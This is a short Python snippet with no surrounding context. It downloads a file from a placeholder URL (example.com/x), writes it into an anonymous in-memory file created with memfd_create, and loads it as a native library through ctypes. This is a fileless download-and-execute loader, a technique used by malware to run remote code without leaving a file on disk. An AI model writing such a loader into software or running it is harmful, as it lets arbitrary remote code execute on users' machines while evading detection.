import ctypes
import os
import urllib.request

fd = os.memfd_create("x")
os.write(fd, urllib.request.urlopen("https://example.com/x").read())
ctypes.CDLL(f"/proc/self/fd/{fd}")
